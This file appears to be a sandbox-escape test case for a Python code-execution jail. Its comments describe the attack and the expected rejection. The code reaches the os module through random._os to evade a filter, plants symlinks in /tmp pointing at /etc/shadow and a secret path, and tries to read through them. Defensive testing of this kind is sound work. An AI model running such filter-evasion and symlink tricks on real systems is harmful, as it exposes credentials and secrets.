# Tries: plant symlinks in the writable /tmp pointing at host files (/etc/shadow, the
#   secret, the canary directory), hoping something outside follows them (Judge0's CVE),
#   and read through them from inside.
# Check layer: rejected ("_os").
# Sandbox layer: the links resolve inside the jail only; nothing outside reads /tmp of the
#   jail -> failed (the reads fail).
import random
os = random._os
for name, target in [("shadow", "/etc/shadow"), ("secret", "@@SECRET_PATH@@"), ("dir", "@@CANARY_DIR@@")]:
    os.symlink(target, "/tmp/" + name)
print(os.listdir("/tmp"))
fd = os.open("/tmp/secret", os.O_RDONLY)
print("ESCAPED" + ":", os.read(fd, 200))
